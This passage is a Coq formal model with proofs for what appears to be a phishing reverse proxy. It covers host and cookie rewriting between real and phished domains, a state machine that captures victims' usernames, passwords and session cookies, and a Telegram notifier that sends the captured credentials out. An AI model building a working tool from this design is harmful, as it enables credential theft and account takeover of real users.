    the missing validation enforces: every [phishHost] is unique and is a
    subdomain of the base domain. *)
Definition validHosts (base : string) (hosts : list ProxyHost) : bool :=
  uniqueb (map phishHost hosts) &&
  forallb (fun ph => isSubdomainOf base (phishHost ph)) hosts.

(** *** Rewrite engine (section 4.1) *)

(** Modelled from the spec: the two paths of the missing rewrite engine,
    response (real to phished) and request (phished to real). *)
Inductive Direction : Type := ToPhished | ToReal.

(** Modelled from the spec: the substitution pairs that the missing rewrite
    engine uses in a direction, in the order of [proxyHosts]. *)
Definition rules (d : Direction) (hosts : list ProxyHost) : list (string * string) :=
  map (fun ph =>
         match d with
         | ToPhished => (origHost ph, phishHost ph)
         | ToReal => (phishHost ph, origHost ph)
         end) hosts.

(** The host name of the pair is not empty and starts the input. *)
Definition applicable (input : string) (rule : string * string) : bool :=
  negb (String.eqb (fst rule) "") && String.prefix (fst rule) input.

(** Modelled from the spec: longest-match-first, for the missing rewrite
    engine.  Among the pairs whose host name starts the input the longest
    wins, and among equally long ones the first listed. *)
Fixpoint longestMatch (rs : list (string * string)) (input : string)
  : option (string * string) :=
  match rs with
  | [] => None
  | r :: rest =>
      let best := longestMatch rest input in
      if applicable input r then
        match best with
        | Some b =>
            if (String.length (fst r) <? String.length (fst b))%nat then best else Some r
        | None => Some r
        end
      else best
  end.

(** Modelled from the spec: hostname substitution over a byte stream, for
    the missing rewrite engine.  The stream is read from the left; where a
    host name matches it is replaced and the reader moves past it ([skip]
    counts the bytes of the match that are still to be passed over),
    elsewhere the byte is copied. *)
Fixpoint substitute (rs : list (string * string)) (skip : nat) (input : string) : string :=
  match input with
  | EmptyString => EmptyString
  | String c rest =>
      match skip with
      | S k => substitute rs k rest
      | O =>
          match longestMatch rs input with
          | Some (from, to) => to ++ substitute rs (String.length from - 1) rest
          | None => String c (substitute rs 0 rest)
          end
      end
  end.

(** Modelled from the spec: the rewrite of a body on one path, for the
    missing rewrite engine. *)
Definition rewriteHosts (d : Direction) (hosts : list ProxyHost) (body : string) : string :=
  substitute (rules d hosts) 0 body.

(** The lookup that belongs to a path. *)
Definition resolve (d : Direction) (hosts : list ProxyHost) (host : string) : option string :=
  match d with
  | ToPhished => resolvePhishedHost hosts host
  | ToReal => resolveRealHost hosts host
  end.

(** Modelled from the spec: cookie-domain rewriting, for the missing
    rewrite engine.  A domain that names a host of the source side is
    replaced by the host of the other side; any other domain is kept. *)
Definition rewriteCookie (d : Direction) (hosts : list ProxyHost) (c : Cookie) : Cookie :=
  {| name := name c; value := value c;
     domain := match resolve d hosts (domain c) with
               | Some host => host
               | None => domain c
               end;
     path := path c; httpOnly := httpOnly c; secure := secure c; expiry := expiry c |}.

(** The byte [c] occurs in [s]. *)
Fixpoint occurs (c : ascii) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String a rest => Ascii.eqb a c || occurs c rest
  end.

(** A byte that occurs in no configured host name, such as the slash or
    the quote that ends a host name in a URL. *)
Definition isDelimiter (hosts : list ProxyHost) (c : ascii) : bool :=
  forallb (fun ph => negb (occurs c (origHost ph)) && negb (occurs c (phishHost ph))) hosts.

(** No host name of [rs] matches at any position of [pre] when [pre] is
    followed by [next]. *)
Fixpoint untouched (rs : list (string * string)) (pre next : string) : bool :=
  match pre with
  | EmptyString => true
  | String _ pre' =>
      match longestMatch rs (pre ++ next) with
      | Some _ => false
      | None => untouched rs pre' next
      end
  end.

(** The replacement of the first pair listed for [from]. *)
Definition lookupRule (rs : list (string * string)) (from : string) : option string :=
  option_map snd (find (fun r => String.eqb (fst r) from) rs).

(** [sub] occurs in [s]. *)
Fixpoint contains (sub s : string) : bool :=
  String.prefix sub s ||
  match s with
  | EmptyString => false
  | String _ rest => contains sub rest
  end.

(** *** Session capture state machine (section 4.5) *)

(** Modelled from the spec: the states of a session, in their order; the
    session code is missing. *)
Inductive CaptureState : Type :=
| NEW
| CREDENTIALS_PARTIAL
| CREDENTIALS_COMPLETE
| AUTHENTICATED.

(** The place of a state in that order. *)
Definition rank (st : CaptureState) : nat :=
  match st with
  | NEW => 0
  | CREDENTIALS_PARTIAL => 1
  | CREDENTIALS_COMPLETE => 2
  | AUTHENTICATED => 3
  end.

Definition fieldIndex (f : FieldType) : nat :=
  match f with username => 0 | password => 1 | custom => 2 end.

Definition fieldOfIndex (n : nat) : FieldType :=
  match n with 0 => username | 1 => password | _ => custom end.

#[global] Instance FieldType_eq_dec : EqDecision FieldType.
Proof. solve_decision. Defined.

#[global] Instance FieldType_countable : Countable FieldType.
Proof. apply (inj_countable' fieldIndex fieldOfIndex). now intros []. Defined.

(** Modelled from the spec: the session record (section 3) of the missing
    session code, the fields that capture reads and writes, and the state of
    its state machine. *)
Record Session : Type := mkSession {
  id : Z;
  phishletName : string;
  landingURL : string;
  remoteIP : string;
  userAgent : string;
  credentials : gmap FieldType string;
  cookies : list Cookie;
  authenticated : bool;
  state : CaptureState
}.

(** Modelled from the spec: a session as it is created on the first
    request to a landing path; the session code is missing. *)
Definition newSession (n : Z) (phishlet url ip agent : string) : Session :=
  {| id := n; phishletName := phishlet; landingURL := url; remoteIP := ip;
     userAgent := agent; credentials := ∅; cookies := []; authenticated := false;
     state := NEW |}.

(** Modelled from the spec: what the proxy pipeline feeds to the missing
    state machine, a submitted credential field or a cookie of a
    [handleSession] host. *)
Inductive Event : Type :=
| CredentialCaptured (field : FieldType) (submitted : string)
| CookieCaptured (ck : Cookie).

(** Two cookies that a browser stores in the same place. *)
Definition sameCookie (a b : Cookie) : bool :=
  String.eqb (name a) (name b) && String.eqb (domain a) (domain b) &&
  String.eqb (path a) (path b).

(** Modelled from the spec: [cookies] is a set and the core only appends
    or updates; in the missing session code a cookie takes the place of the
    one stored under its name, domain and path. *)
Definition addCookie (ck : Cookie) (cs : list Cookie) : list Cookie :=
  ck :: filter (fun c => negb (sameCookie ck c)) cs.

Section Capture.

(** Whether a pattern of an auth token matches a host or a cookie name;
    the pattern language is not fixed by the design document. *)
Variable matches : string -> string -> bool.

(** Modelled from the spec: an auth token has a matching cookie; the
    session code is missing. *)
Definition tokenCaptured (tok : AuthToken) (cs : list Cookie) : bool :=
  existsb (fun c => matches (hostPattern tok) (domain c) &&
                    matches (cookieNamePattern tok) (name c)) cs.

(** Modelled from the spec: every auth token that is not optional has a
    matching cookie; the session code is missing. *)
Definition allRequiredCaptured (p : Phishlet) (cs : list Cookie) : bool :=
  forallb (fun tok => isOptional tok || tokenCaptured tok cs) (authTokens p).

(** Modelled from the spec: every declared credential field type has a
    captured value; the session code is missing. *)
Definition allFieldsCaptured (p : Phishlet) (creds : gmap FieldType string) : bool :=
  forallb (fun f => match creds !! f with Some _ => true | None => false end)
          (credentialFields p).

(** Modelled from the spec: one event of the missing state machine.  The
    value or the cookie is stored (the last write wins); then the transitions
    of section 4.5 are tried in their order: [NEW] to [CREDENTIALS_PARTIAL]
    on a credential field, [CREDENTIALS_PARTIAL] to [CREDENTIALS_COMPLETE]
    when every declared field has a value, and any state to [AUTHENTICATED]
    when a cookie capture satisfies all required auth tokens. *)
Definition advance (p : Phishlet) (ev : Event) (s : Session) : Session :=
  let creds :=
    match ev with
    | CredentialCaptured field submitted => <[field := submitted]> (credentials s)
    | CookieCaptured _ => credentials s
    end in
  let cks :=
    match ev with
    | CredentialCaptured _ _ => cookies s
    | CookieCaptured ck => addCookie ck (cookies s)
    end in
  let st1 :=
    match state s, ev with
    | NEW, CredentialCaptured _ _ => CREDENTIALS_PARTIAL
    | st, _ => st
    end in
  let st2 :=
    match st1 with
    | CREDENTIALS_PARTIAL =>
        if allFieldsCaptured p creds then CREDENTIALS_COMPLETE else CREDENTIALS_PARTIAL
    | st => st
    end in
  let auth :=
    match ev with
    | CredentialCaptured _ _ => authenticated s
    | CookieCaptured _ => authenticated s || allRequiredCaptured p cks
    end in
  {| id := id s; phishletName := phishletName s; landingURL := landingURL s;
     remoteIP := remoteIP s; userAgent := userAgent s;
     credentials := creds; cookies := cks; authenticated := auth;
     state := if auth then AUTHENTICATED else st2 |}.

(** Modelled from the spec: the events of a session, one after the other;
    the session code is missing. *)
Definition capture (p : Phishlet) (evs : list Event) (s : Session) : Session :=
  fold_left (fun acc ev => advance p ev acc) evs s.

End Capture.

(** The flag and the state say the same. *)
Definition consistent (s : Session) : Prop :=
  authenticated s = true <-> state s = AUTHENTICATED.

(** *** Sample phishlets *)

Definition scenarioHosts : list ProxyHost :=
  [ mkProxyHost "login.evil.test" "login.real.test" true true false ].

Definition nestedHosts : list ProxyHost :=
  [ mkProxyHost "y.evil.test" "b.com" false false false;
    mkProxyHost "x.evil.test" "a.b.com" true true false ].

(** Two proxy hosts whose phished names differ by a leading letter. *)
Definition crossingHosts : list ProxyHost :=
  [ mkProxyHost "x.evil.test" "login.real.test" true true false;
    mkProxyHost "mx.evil.test" "m.real.test" false false false ].


Definition sessionCookie : Cookie :=
  mkCookie "session" "abc" "login.real.test" "/" true true 0.

Definition scenarioPhishlet : Phishlet :=
  {| proxyHosts := scenarioHosts;
     authTokens := [ mkAuthToken "login.real.test" "session" false ];
     credentialFields := [ username; password ] |}.

(** The journey of scenario 2, followed by the session cookie and a
    second submission of the password. *)
Definition scenarioEvents : list Event :=
  [ CredentialCaptured username "alice"; CredentialCaptured password "secret";
    CookieCaptured sessionCookie; CredentialCaptured password "other" ].

End Core.

Import Go Telegram.

(** * Properties of the notifier *)

Section Escape.

Lemma NewReplacer_escapePairs (b : ascii) :
  NewReplacer escapePairs b =
  if existsb (Ascii.eqb b) markdownSpecials
  then Some (String "\"%char (String b EmptyString)) else None.
Proof.
  destruct b as [[] [] [] [] [] [] [] []]; reflexivity.
Qed.

Lemma escapeMarkdown_escapeEach (text : string) :
  escapeMarkdown text = escapeEach text.
Proof.
  unfold escapeMarkdown.
  induction text as [|b rest IH]; [reflexivity|].
  cbn [Replace escapeEach]. rewrite NewReplacer_escapePairs. unfold escapeByte.
  destruct (existsb (Ascii.eqb b) markdownSpecials); rewrite IH; reflexivity.
Qed.

End Escape.

(** C8. [escapeMarkdown] puts a backslash before each of the eighteen
    characters _ * [ ] ( ) ~ ` > # + - = | { } . ! and copies every other
    byte, the backslash included.  In the credentials message it is applied
    to the username, the password and the user agent, in the update message
    to the value; the ip and the domain are inserted as they are. *)
Theorem escapeMarkdown_fields :
  length markdownSpecials = 18 /\
  NoDup markdownSpecials /\
  escapeByte "\"%char = "\" /\
  (forall b, In b markdownSpecials -> escapeByte b = String "\"%char (String b EmptyString)) /\
  (forall b, ~ In b markdownSpecials -> escapeByte b = String b EmptyString) /\
  (forall text, escapeMarkdown text = escapeEach text) /\
  (forall sessionID username password ip userAgent domain now,
      credentialsText sessionID username password ip userAgent domain now =
      "🎯 *Captured Session " ++ itoa sessionID ++ "*" ++ LF ++ LF ++
      "📧 *Username:* `" ++ escapeEach username ++ "`" ++ LF ++
      "🔑 *Password:* `" ++ escapeEach password ++ "`" ++ LF ++
      "🌐 *IP:* `" ++ ip ++ "`" ++ LF ++
      "📱 *User-Agent:* " ++ escapeEach userAgent ++ LF ++
      "🌐 *Domain:* " ++ domain ++ LF ++
      "⏰ *Time:* " ++ now) /\
  (forall sessionID updateType value ip now,
      sessionUpdateText sessionID updateType value ip now =
      "🔔 *Session " ++ itoa sessionID ++ " Update*" ++ LF ++ LF ++
      updateEmoji updateType ++ " *" ++ updateField updateType ++ ":* `" ++
      escapeEach value ++ "`" ++ LF ++
      "🌐 *IP:* `" ++ ip ++ "`" ++ LF ++
      "⏰ *Time:* " ++ now).
Proof.
  split; [reflexivity|].
  split.
  { unfold markdownSpecials.
    repeat (constructor; [rewrite list_elem_of_In; cbn; intuition discriminate|]).
    constructor. }
  split; [reflexivity|].
  split.
  { intros b Hb. unfold escapeByte.
    replace (existsb (Ascii.eqb b) markdownSpecials) with true; [reflexivity|].
    symmetry. apply existsb_exists. exists b. split; [exact Hb | apply Ascii.eqb_refl]. }
  split.
  { intros b Hb. unfold escapeByte.
    destruct (existsb (Ascii.eqb b) markdownSpecials) eqn:Hex; [|reflexivity].
    apply existsb_exists in Hex. destruct Hex as [c [Hc Heq]].
    apply Ascii.eqb_eq in Heq. subst c. contradiction. }
  split; [exact escapeMarkdown_escapeEach|].
  split.
  - intros. unfold credentialsText. now rewrite !escapeMarkdown_escapeEach.
  - intros. unfold sessionUpdateText. now rewrite escapeMarkdown_escapeEach.
Qed.

Section Emission.

Variable E : Env.

Lemma notConfigured_IsEnabled (t : TelegramBot) :
  notConfigured t = negb (IsEnabled t).
Proof.
  unfold notConfigured, IsEnabled.
  destruct (enabled t), (String.eqb (botToken t) ""), (String.eqb (chatID t) "");
    reflexivity.
Qed.

Lemma exec_emission (a : Action) (s : State) (msg : TelegramMessage) :
  IsEnabled (bot s) = true -> eventMessage a (bot s) = Some msg ->
  exec E a s = Some (offer msg s).
Proof.
  intros Hcfg Hmsg.
  destruct a; cbn in Hmsg; try discriminate; injection Hmsg as <-; cbn [exec];
    unfold SendCredentials, SendSessionUpdate;
    rewrite notConfigured_IsEnabled, Hcfg; reflexivity.
Qed.

Lemma exec_emission_off (a : Action) (s : State) :
  isEmission a -> IsEnabled (bot s) = false -> exec E a s = Some s.
Proof.
  intros Ha Hcfg.
  destruct a; cbn in Ha; try contradiction; cbn [exec];
    unfold SendCredentials, SendSessionUpdate;
    rewrite notConfigured_IsEnabled, Hcfg; reflexivity.
Qed.

Lemma offer_free (msg : TelegramMessage) (s : State) :
  (len (msgQueue (bot s)) < cap (msgQueue (bot s)))%nat ->
  offer msg s =
  mkState (setQueue (mkChan (cap (msgQueue (bot s))) (buf (msgQueue (bot s)) ++ [Some msg]))
             (bot s)) (world s).
Proof.
  intros Hfree. unfold offer, send.
  destruct (Nat.ltb_spec (len (msgQueue (bot s))) (cap (msgQueue (bot s)))); [reflexivity | lia].
Qed.

Lemma offer_full (msg : TelegramMessage) (s : State) :
  (cap (msgQueue (bot s)) <= len (msgQueue (bot s)))%nat ->
  offer msg s = mkState (bot s) (logWarning queueFullWarning (world s)).
Proof.
  intros Hfull. unfold offer, send.
  destruct (Nat.ltb_spec (len (msgQueue (bot s))) (cap (msgQueue (bot s)))); [lia | reflexivity].
Qed.

Lemma offer_bounded (msg : TelegramMessage) (s : State) :
  bounded s -> bounded (offer msg s).
Proof.
  intros [Hcap Hlen]. unfold bounded, offer, send.
  destruct (Nat.ltb_spec (len (msgQueue (bot s))) (cap (msgQueue (bot s)))) as [Hlt|Hge];
    cbn; [|auto].
  split; [exact Hcap|]. unfold len in *. cbn. rewrite length_app. cbn. lia.
Qed.

Lemma recv_shorter {T : Type} (ch ch' : chan T) (x : T) :
  recv ch = Some (x, ch') -> cap ch' = cap ch /\ buf ch = x :: buf ch'.
Proof.
  unfold recv. destruct (buf ch) as [|y rest] eqn:Hbuf; [discriminate|].
  intros [= -> <-]. cbn. auto.
Qed.

Lemma messageWorker_bounded (i : nat) (pickStop : bool) (s s' : State) :
  bounded s -> messageWorker E i pickStop s = Some s' -> bounded s'.
Proof.
  intros [Hcap Hlen]. unfold messageWorker, bounded.
  destruct (workers (bot s) !! i) as [[]|]; [| | | |discriminate].
  - destruct (recv (msgQueue (bot s))) as [[msg q]|] eqn:Hrecv.
    + apply recv_shorter in Hrecv. destruct Hrecv as [Hc Hb].
      assert (Hq : cap q = queueCapacity /\ (len q <= cap q)%nat).
      { unfold len in *. rewrite Hb in Hlen. cbn in Hlen. rewrite Hc. split; [exact Hcap | lia]. }
      destruct (stopChan (bot s)); [destruct pickStop|]; intros [= <-]; cbn; auto.
    + destruct (stopChan (bot s)); [|discriminate]. intros [= <-]; cbn; auto.
  - destruct (0 <? len (msgQueue (bot s)))%nat; intros [= <-]; cbn; auto.
  - destruct (recv (msgQueue (bot s))) as [[msg q]|] eqn:Hrecv; [|discriminate].
    apply recv_shorter in Hrecv. destruct Hrecv as [Hc Hb].
    intros [= <-]; cbn. unfold len in *. rewrite Hb in Hlen. cbn in Hlen.
    rewrite Hc. split; [exact Hcap | lia].
  - intros [= <-]; cbn; auto.
Qed.

Lemma exec_bounded (a : Action) (s s' : State) :
  bounded s -> exec E a s = Some s' -> bounded s'.
Proof.
  intros Hb. destruct a; cbn [exec].
  - intros [= <-]. unfold SendCredentials.
    destruct (notConfigured (bot s)); [exact Hb | now apply offer_bounded].
  - intros [= <-]. unfold SendSessionUpdate.
    destruct (notConfigured (bot s)); [exact Hb | now apply offer_bounded].
  - intros [= <-]. exact Hb.
  - intros [= <-]. unfold Start. destruct (notConfigured (bot s)); exact Hb.
  - destruct (stopChan (bot s)); [discriminate|]. intros [= <-]. exact Hb.
  - now apply messageWorker_bounded.
Qed.

Lemma run_bounded (acts : list Action) (s s' : State) :
  bounded s -> run E acts s = Some s' -> bounded s'.
Proof.
  revert s. induction acts as [|a rest IH]; intros s Hb; cbn [run].
  - now intros [= <-].
  - destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate].
    apply IH. now apply (exec_bounded a s).
Qed.

Lemma initial_bounded : bounded initial.
Proof. split; cbn; [reflexivity | unfold queueCapacity; lia]. Qed.

End Emission.

(** C1. On an enabled and configured bot an emission ([SendCredentials],
    [SendSessionUpdate]) always takes its step, whatever the state of the
    queue, and has no result to report: with a free slot the formatted
    message is appended to the queue and nothing else changes; with a full
    queue the bot is unchanged and one warning is logged. *)
Theorem emission_never_blocks (E : Env) (a : Action) (s : State) (msg : TelegramMessage)
    (Hcfg : IsEnabled (bot s) = true) (Hmsg : eventMessage a (bot s) = Some msg) :
  exists s', exec E a s = Some s' /\
    ((len (msgQueue (bot s)) < cap (msgQueue (bot s)))%nat ->
       s' = mkState (setQueue (mkChan (cap (msgQueue (bot s)))
                                 (buf (msgQueue (bot s)) ++ [Some msg])) (bot s))
                    (world s)) /\
    ((cap (msgQueue (bot s)) <= len (msgQueue (bot s)))%nat ->
       s' = mkState (bot s) (logWarning queueFullWarning (world s))).
Proof.
  exists (offer msg s). split; [now apply exec_emission|].
  split; [apply offer_free | apply offer_full].
Qed.

Lemma emission_never_blocks_witness :
  exists s', exec quietEnv sampleEvent fullState = Some s' /\
    ((len (msgQueue (bot fullState)) < cap (msgQueue (bot fullState)))%nat ->
       s' = mkState (setQueue (mkChan (cap (msgQueue (bot fullState)))
                                 (buf (msgQueue (bot fullState)) ++ [Some sampleMessage]))
                       (bot fullState))
                    (world fullState)) /\
    ((cap (msgQueue (bot fullState)) <= len (msgQueue (bot fullState)))%nat ->
       s' = mkState (bot fullState) (logWarning queueFullWarning (world fullState))).
Proof.
  apply (emission_never_blocks quietEnv sampleEvent fullState sampleMessage); reflexivity.
Defined.

(** C7. The queue is bounded: in every state reached from a new bot by
    emissions, configuration changes, starts, the closing of the stop channel
    and worker steps, the capacity is 100 and at most 100 messages are
    pending; an emission on a full queue leaves the queue as it is. *)
Theorem queue_bounded (E : Env) (acts : list Action) (s : State)
    (Hrun : run E acts initial = Some s) :
  cap (msgQueue (bot s)) = 100%nat /\
  (len (msgQueue (bot s)) <= 100)%nat /\
  (forall a s', isEmission a -> len (msgQueue (bot s)) = 100%nat ->
     exec E a s = Some s' -> msgQueue (bot s') = msgQueue (bot s)).
Proof.
  destruct (run_bounded E acts initial s initial_bounded Hrun) as [Hcap Hlen].
  unfold queueCapacity in Hcap.
  split; [exact Hcap|]. split; [lia|].
  intros a s' Ha Hfull Hexec.
  destruct (IsEnabled (bot s)) eqn:Hcfg.
  - destruct (eventMessage a (bot s)) as [msg|] eqn:Hmsg.
    + rewrite (exec_emission E a s msg Hcfg Hmsg) in Hexec. injection Hexec as <-.
      rewrite offer_full; [reflexivity | lia].
    + destruct a; cbn in Ha, Hmsg; try contradiction; discriminate.
  - rewrite (exec_emission_off E a s Ha Hcfg) in Hexec. now injection Hexec as <-.
Qed.

Lemma queue_bounded_witness :
  cap (msgQueue (bot sampleAfter)) = 100%nat /\
  (len (msgQueue (bot sampleAfter)) <= 100)%nat /\
  (forall a s', isEmission a -> len (msgQueue (bot sampleAfter)) = 100%nat ->
     exec quietEnv a sampleAfter = Some s' -> msgQueue (bot s') = msgQueue (bot sampleAfter)).
Proof.
  apply (queue_bounded quietEnv sampleRun sampleAfter). reflexivity.
Defined.

Section Direct.

Variable E : Env.

Lemma doRequest_files (req : Request) (w : World) :
  files (snd (doRequest E req w)) = files w.
Proof.
  unfold doRequest. destruct (client_Do E (length (posted w)) req) as [err|code];
    [reflexivity|]. destruct (code =? StatusOK)%Z; reflexivity.
Qed.

Lemma doRequest_ok (req : Request) (w w' : World) :
  doRequest E req w = (None, w') ->
  client_Do E (length (posted w)) req = inr StatusOK /\ w' = logPost req w.
Proof.
  unfold doRequest. destruct (client_Do E (length (posted w)) req) as [err|code];
    [discriminate|].
  destruct (Z.eqb_spec code StatusOK) as [->|Hne]; [|discriminate].
  intros [= <-]. auto.
Qed.

Lemma sendMessage_sendCalls (t : TelegramBot) (msg : TelegramMessage) (w : World) :
  sendCalls (snd (sendMessage E t msg w)) = (sendCalls w ++ [msg])%list.
Proof.
  unfold sendMessage. destruct (notConfigured t); [reflexivity|].
  destruct (json_Marshal E msg); [reflexivity|].
  destruct (http_NewRequest E _); [reflexivity|].
  unfold doRequest. destruct (client_Do E _ _) as [err|code]; [reflexivity|].
  destruct (code =? StatusOK)%Z; reflexivity.
Qed.

End Direct.

(** C9. [SendTestMessage] answers "telegram bot not configured" whenever
    the bot is switched off or lacks its token or its chat id, and makes no
    request.  With token and chat id present its own guard lets the call
    through and it is [sendMessage] that refuses (the call is on record);
    with one of them empty the guard itself refuses and the state is as
    before. *)
Theorem SendTestMessage_not_configured (E : Env) (s : State)
    (Hoff : enabled (bot s) = false \/ botToken (bot s) = "" \/ chatID (bot s) = "") :
  fst (SendTestMessage E s) = Some "telegram bot not configured" /\
  posted (world (snd (SendTestMessage E s))) = posted (world s) /\
  (botToken (bot s) <> "" -> chatID (bot s) <> "" ->
     snd (SendTestMessage E s) =
     mkState (bot s)
       (logCall (mkMessage (chatID (bot s)) testText "Markdown") (world s))) /\
  (botToken (bot s) = "" \/ chatID (bot s) = "" -> snd (SendTestMessage E s) = s).
Proof.
  unfold SendTestMessage.
  destruct (String.eqb_spec (botToken (bot s)) "") as [Htok|Htok];
    [cbn; repeat split; auto; intros; congruence|].
  destruct (String.eqb_spec (chatID (bot s)) "") as [Hchat|Hchat];
    [cbn; repeat split; auto; intros; congruence|].
  destruct Hoff as [Hoff|[Hoff|Hoff]]; try congruence.
  cbn [orb]. unfold sendMessage, notConfigured. rewrite Hoff. cbn.
  repeat split; auto. intros [?|?]; congruence.
Qed.

Lemma SendTestMessage_not_configured_witness :
  fst (SendTestMessage quietEnv disabledState) = Some "telegram bot not configured" /\
  posted (world (snd (SendTestMessage quietEnv disabledState))) =
    posted (world disabledState) /\
  (botToken (bot disabledState) <> "" -> chatID (bot disabledState) <> "" ->
     snd (SendTestMessage quietEnv disabledState) =
     mkState (bot disabledState)
       (logCall (mkMessage (chatID (bot disabledState)) testText "Markdown")
          (world disabledState))) /\
  (botToken (bot disabledState) = "" \/ chatID (bot disabledState) = "" ->
     snd (SendTestMessage quietEnv disabledState) = disabledState).
Proof.
  apply (SendTestMessage_not_configured quietEnv disabledState). left. reflexivity.
Defined.

(** C10, as stated, fails: where the file system refuses the removal,
    [SendDocument] has sent the file and returns [nil], and the file is still
    on disk. *)
Lemma SendDocument_removes_counterexample :
  SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" "" fileWorld
  = (None, logPost (documentRequest stickyEnv (sampleBot [] []) "/tmp/session_1.json" "{}"
                      [FormField "chat_id" "42"]) fileWorld) /\
  files (snd (SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" "" fileWorld))
    !! "/tmp/session_1.json" = Some "{}".
Proof.
  assert (Hfile : files fileWorld !! "/tmp/session_1.json" = Some "{}")
    by (unfold fileWorld; cbn [files setFiles]; apply lookup_insert_eq).
  unfold SendDocument.
  cbn [notConfigured sampleBot enabled botToken chatID negb orb String.eqb Ascii.eqb].
  rewrite Hfile. cbn. split; [reflexivity | exact Hfile].
Qed.

Local Ltac refuted :=
  split; [discriminate | intros (_ & ? & ? & ? & ? & ? & ? & ? & ? & ?); congruence].

Section Upload.

Variable E : Env.

(** [SendDocument] returns [nil] exactly when every call on its way
    succeeds and the server answers 200. *)
Lemma SendDocument_nil (t : TelegramBot) (filePath caption : string) (w : World) :
  fst (SendDocument E t filePath caption w) = None <->
  IsEnabled t = true /\
  exists content fields,
    files w !! filePath = Some content /\
    CreateFormFile E "document" (filepath_Base E filePath) = None /\
    io_Copy E content = None /\
    writeFields E t caption = inr fields /\
    writer_Close E = None /\
    http_NewRequest E (sendDocumentURL t) = None /\
    client_Do E (length (posted w)) (documentRequest E t filePath content fields)
    = inr 200%Z.
Proof.
  unfold SendDocument, documentRequest. fold (sendDocumentURL t).
  rewrite notConfigured_IsEnabled.
  destruct (IsEnabled t) eqn:Hon; cbn [negb];
    [|split; [discriminate | intros (? & _); discriminate]].
  destruct (files w !! filePath) as [content|] eqn:Hfile;
    [|split; [discriminate | intros (_ & ? & ? & ? & _); discriminate]].
  destruct (CreateFormFile E _ _) eqn:Hform; [refuted|].
  destruct (io_Copy E content) eqn:Hcopy; [refuted|].
  destruct (writeFields E t caption) as [err|fields] eqn:Hfields; [refuted|].
  destruct (writer_Close E) eqn:Hclose; [refuted|].
  destruct (http_NewRequest E _) eqn:Hbuild; [refuted|].
  unfold doRequest, StatusOK.
  destruct (client_Do E _ _) as [err|code] eqn:Hdo; [refuted|].
  destruct (Z.eqb_spec code 200) as [->|Hne]; [|refuted].
  split; [intros _|reflexivity]. split; [reflexivity|]. exists content, fields. auto 10.
Qed.

End Upload.

(** C10, amended.  [SendDocument] returns [nil] exactly when the bot is
    enabled, the file is there, the form and the request are built and the
    server answers the one request with status 200.  Then, and only then,
    [os.Remove] is called on the path: when it succeeds the path is gone
    afterwards and every other file is as before; when it fails the error is
    dropped, [nil] is returned all the same and the files are as before.  On
    every error return the files are as before. *)
Theorem SendDocument_removes_iff_sent (E : Env) (t : TelegramBot)
    (filePath caption : string) (w : World) :
  (fst (SendDocument E t filePath caption w) = None <->
     IsEnabled t = true /\
     exists content fields,
       files w !! filePath = Some content /\
       CreateFormFile E "document" (filepath_Base E filePath) = None /\
       io_Copy E content = None /\
       writeFields E t caption = inr fields /\
       writer_Close E = None /\
       http_NewRequest E (sendDocumentURL t) = None /\
       client_Do E (length (posted w)) (documentRequest E t filePath content fields)
       = inr 200%Z) /\
  match SendDocument E t filePath caption w with
  | (None, w') =>
      is_Some (files w !! filePath) /\
      (os_Remove_err E filePath = None ->
         files w' = delete filePath (files w) /\ files w' !! filePath = None) /\
      (is_Some (os_Remove_err E filePath) -> files w' = files w) /\
      exists req, posted w' = (posted w ++ [req])%list /\
                  client_Do E (length (posted w)) req = inr StatusOK
  | (Some err, w') => files w' = files w
  end.
Proof.
  split; [apply SendDocument_nil|].
  unfold SendDocument.
  destruct (notConfigured t); [reflexivity|].
  destruct (files w !! filePath) as [content|] eqn:Hfile; [|reflexivity].
  destruct (CreateFormFile E _ _); [reflexivity|].
  destruct (io_Copy E content); [reflexivity|].
  destruct (writeFields E t caption) as [err|fields]; [reflexivity|].
  destruct (writer_Close E); [reflexivity|].
  destruct (http_NewRequest E _); [reflexivity|].
  match goal with |- context [doRequest E ?r w] => set (req := r) end.
  destruct (doRequest E req w) as [[err|] w'] eqn:Hdo.
  - change w' with (snd (Some err, w')). rewrite <- Hdo. apply doRequest_files.
  - apply doRequest_ok in Hdo. destruct Hdo as [Hdo ->].
    split; [eauto|]. unfold os_Remove.
    destruct (os_Remove_err E filePath) as [err|]; cbn [snd files setFiles logPost posted].
    + split; [discriminate|]. split; [reflexivity|]. exists req. auto.
    + split; [intros _; split; [reflexivity | apply lookup_delete_eq]|].
      split; [intros [? [=]]|]. exists req. auto.
Qed.

Section Worker.

Variable E : Env.

Lemma handle_sendCalls (t : TelegramBot) (msg : option TelegramMessage) (w : World) :
  sendCalls (handle E t msg w) = (sendCalls w ++ omap id [msg])%list.
Proof.
  destruct msg as [m|]; cbn [handle].
  - apply sendMessage_sendCalls.
  - cbn. now rewrite app_nil_r.
Qed.

Lemma pending_recv (t : TelegramBot) (msg : option TelegramMessage)
    (q : chan (option TelegramMessage)) :
  recv (msgQueue t) = Some (msg, q) ->
  pending t = (omap id [msg] ++ pending (setQueue q t))%list.
Proof.
  intros Hrecv. apply recv_shorter in Hrecv. destruct Hrecv as [_ Hbuf].
  unfold pending. rewrite Hbuf. cbn. destruct msg; reflexivity.
Qed.

(** A worker step moves a message from the queue to [sendMessage], or
    moves nothing. *)
Lemma messageWorker_known (i : nat) (pickStop : bool) (s s' : State) :
  messageWorker E i pickStop s = Some s' -> known s' = known s.
Proof.
  unfold messageWorker, known.
  destruct (workers (bot s) !! i) as [[]|]; [| | | |discriminate].
  - destruct (recv (msgQueue (bot s))) as [[msg q]|] eqn:Hrecv.
    + rewrite (pending_recv _ _ _ Hrecv).
      destruct (stopChan (bot s)); [destruct pickStop|]; intros [= <-]; cbn [world bot];
        rewrite ?handle_sendCalls, <- ?app_assoc; try reflexivity.
      now rewrite <- (pending_recv _ _ _ Hrecv).
    + destruct (stopChan (bot s)); [|discriminate]. now intros [= <-].
  - destruct (0 <? len (msgQueue (bot s)))%nat; now intros [= <-].
  - destruct (recv (msgQueue (bot s))) as [[msg q]|] eqn:Hrecv; [|discriminate].
    rewrite (pending_recv _ _ _ Hrecv). intros [= <-]. cbn [world bot].
    now rewrite handle_sendCalls, <- app_assoc.
  - now intros [= <-].
Qed.

Lemma exec_known (a : Action) (s s' : State) :
  ~ isEmission a -> exec E a s = Some s' -> known s' = known s.
Proof.
  intros Ha. destruct a; cbn in Ha; try tauto; cbn [exec].
